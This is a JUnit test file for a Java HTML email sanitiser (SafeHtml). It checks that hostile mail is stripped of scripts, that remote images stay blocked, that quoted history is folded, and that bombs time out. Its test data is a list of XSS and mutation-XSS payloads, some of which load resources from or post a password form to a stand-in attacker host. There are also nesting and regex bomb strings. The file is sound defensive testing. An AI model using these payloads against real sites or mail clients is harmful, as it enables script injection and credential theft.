package org.redress.conversation;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Locale;
import java.util.Optional;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@Tag("M13")
class SafeHtmlTest {

    private static final String FOLD = "Quoted";

    @ParameterizedTest
    @DisplayName("M13 nothing that acts is left of a hostile mail")
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<div style=\"background:url('https://evil.example/x');position:fixed\">x</div>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example/><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>",
        "<iframe src=https://evil.example/></iframe><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
        "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
        "<img src=x onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' &#106;ava&#10;script&colon;alert(1)'>x</a>",
        "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='file:///etc/passwd'>x</a><a href='//evil.example'>x</a>",
        "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
        "<body onload=alert(1)>x</body>",
        "<video src=https://evil.example/x autoplay><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<title><script>alert(1)</script></title>",
        "<table background=https://evil.example/x><td background=https://evil.example/x>x</table>",
        "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>"
    })
    void m13_leavesNothingThatActs(String hostile) {
        String safe = SafeHtml.of("<p>Good day.</p>" + hostile, false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow().html().toLowerCase(Locale.ROOT);

        assertThat(safe).contains("good day.");
        assertThat(safe).doesNotContainPattern("<(script|style|svg|math|iframe|object|embed|form|input|button|textarea|link|meta|base|video|audio|template|noscript|title|xmp|img)");
        assertThat(safe).doesNotContainPattern("<[^>]*\\s(on\\w+|style|src|srcset|background|action|formaction|srcdoc|xlink:href|http-equiv)\\s*=");
        assertThat(safe).doesNotContainPattern("href=\"(?!https?:|mailto:|tel:)");
    }

    @Test
    @DisplayName("M13 pictures from elsewhere are fetched only when somebody asks")
    void m13_blocksRemoteImagesUntilAsked() {
        String mail = "<p>See <img src=https://shop.example/pixel.gif?who=ann alt='the broken tap' width=1> here</p><img src='http://shop.example/b.png'>";

        SafeHtml blocked = SafeHtml.of(mail, false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();
        SafeHtml asked = SafeHtml.of(mail, true, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();

        assertThat(blocked.html()).doesNotContain("shop.example").contains("[the broken tap]");
        assertThat(blocked.remoteImages()).isEqualTo(2);
        assertThat(asked.html()).contains("https://shop.example/pixel.gif", "referrerpolicy=\"no-referrer\"");
    }

    @Test
    void showsPicturesThatTheMailBringsAlong() {
        SafeHtml shown = SafeHtml.of("<p>x</p><img src='data:image/png;base64,iVBORw0KGgo='>", false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();

        assertThat(shown.html()).contains("data:image/png;base64,iVBORw0KGgo=");
        assertThat(shown.remoteImages()).isZero();
    }

    @Test
    void showsThePicturesOfTheMailItselfAndOfNoOther() {
        String mail = "<p>x</p><img src='CID:tap@shop'><img src=cid:tap%40shop><img src='cid:other@shop' alt='another one'><img src='cid:page@shop'>";
        SafeHtml.Enclosed enclosed = id -> switch (id) {
            case "tap@shop" -> Optional.of("data:image/png;base64,iVBORw0KGgo=");
            case "page@shop" -> Optional.of("data:text/html;base64,PHNjcmlwdD4=");
            default -> Optional.empty();
        };

        String shown = SafeHtml.of(mail, false, FOLD, enclosed).orElseThrow().html();

        assertThat(shown.split("data:image/png;base64,iVBORw0KGgo=", -1)).hasSize(3);
        assertThat(shown).contains("[another one]").doesNotContain("cid:", "text/html");
    }

    @Test
    @DisplayName("M13 one picture a thousand times is not a thousand pictures")
    void m13_limitsWhatPicturesTakeAltogether() {
        String large = "data:image/png;base64," + "A".repeat(5_000_000);

        String shown = SafeHtml.of("<p>x</p>" + "<img src=cid:a>".repeat(100), false, FOLD, id -> Optional.of(large)).map(SafeHtml::html).orElse("");

        assertThat(shown.length()).isLessThan(12_100_000);
    }

    @Test
    void keepsWhatALetterIsMadeOf() {
        SafeHtml shown = SafeHtml.of("<h1>Ответ</h1><table border=1><tr><td colspan=2>返品 <b>二つ</b></td></tr></table><a href='https://shop.example/a?b=1&c=2'>order</a>",
            false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();

        assertThat(shown.html()).contains("<h1>Ответ</h1>", "<td colspan=\"2\">返品 <b>二つ</b></td>", "href=\"https://shop.example/a?b=1&amp;c=2\"",
            "rel=\"noopener noreferrer nofollow\"", "target=\"_blank\"");
    }

    @ParameterizedTest
    @DisplayName("M13 a bomb costs no more than two seconds")
    @ValueSource(strings = {"<table><tr><td>", "<b><i><u>", "<div>", "<a href=x>", "<p>&amp;", "<font><b>x</font>", "<!--", "<select><option>", "<li><table>x"})
    void m13_endsWithATableOrNestingBomb(String piece) {
        String bomb = "<p>Good day.</p>" + piece.repeat(1_000_000 / piece.length());
        long begin = System.nanoTime();

        Optional<SafeHtml> shown = SafeHtml.of(bomb, false, FOLD, SafeHtml.Enclosed.NONE);

        assertThat(Duration.ofNanos(System.nanoTime() - begin)).isLessThan(Duration.ofSeconds(6));
        shown.ifPresent(safe -> assertThat(safe.html()).contains("Good day."));
    }

    @Test
    @DisplayName("M13 what takes longer than it may is not shown at all")
    void m13_givesUpInTime() {
        assertThat(SafeHtml.of("<p>x</p>".repeat(10_000), false, FOLD, SafeHtml.Enclosed.NONE, Duration.ZERO)).isEmpty();
    }

    @Test
    @DisplayName("M13 a text against regular expressions is a text")
    void m13_endsWithARegexBomb() {
        String bomb = "<p>x</p><img src='data:image/png;base64," + "a".repeat(400_000) + "!'><a href='" + " ".repeat(200_000) + "javascript:x'>x</a>";
        long begin = System.nanoTime();

        SafeHtml shown = SafeHtml.of(bomb, false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();

        assertThat(Duration.ofNanos(System.nanoTime() - begin)).isLessThan(Duration.ofSeconds(3));
        assertThat(shown.html()).doesNotContain("javascript", "data:");
    }

    @Test
    void cutsWhatIsNoLetterAnyMore() {
        SafeHtml shown = SafeHtml.of("<p>x</p>".repeat(SafeHtml.MOST_ELEMENTS + 10), false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow();

        assertThat(shown.cut()).isTrue();
    }

    @Test
    void dropsASpanThatNoScreenCouldDraw() {
        assertThat(SafeHtml.of("<table><tr><td colspan=999999999 rowspan=65534>x</td></tr></table>", false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow().html()).doesNotContain("span=");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<div>Thank you, it works.</div><div class=gmail_quote>On Monday we wrote<blockquote>The old text</blockquote></div>",
        "<p>Thank you, it works.</p><blockquote type=cite>The old text</blockquote>",
        "<p>Thank you, it works.</p><hr><div id=divRplyFwdMsg>From: us</div><div>The old text</div>",
        "<p>Thank you, it works.</p><div style='border:none;border-top:solid #E1E1E1 1.0pt'>From: us</div><p>The old text</p>"
    })
    void foldsTheQuotedHistory(String mail) {
        String html = SafeHtml.of(mail, false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow().html();

        assertThat(html).contains("<details><summary>Quoted</summary>");
        assertThat(html.substring(0, html.indexOf("<details>"))).contains("Thank you, it works.").doesNotContain("old text");
        assertThat(html.substring(html.indexOf("<details>"))).contains("The old text");
    }

    @Test
    void doesNotFoldAMailOfWhichNothingWouldBeLeft() {
        assertThat(SafeHtml.of("<blockquote type=cite>Only this</blockquote>", false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow().html()).doesNotContain("<details>");
    }

    @Test
    void letsNoMailSayWhatOurFoldSays() {
        assertThat(SafeHtml.of("<details><summary>Quoted</summary>hidden</details><p>x</p>", false, FOLD, SafeHtml.Enclosed.NONE).orElseThrow().html()).doesNotContain("<details>");
    }

    @Test
    void showsNothingWhereNothingIsLeft() {
        assertThat(SafeHtml.of("<script>x</script>", false, FOLD, SafeHtml.Enclosed.NONE)).isEmpty();
    }
}
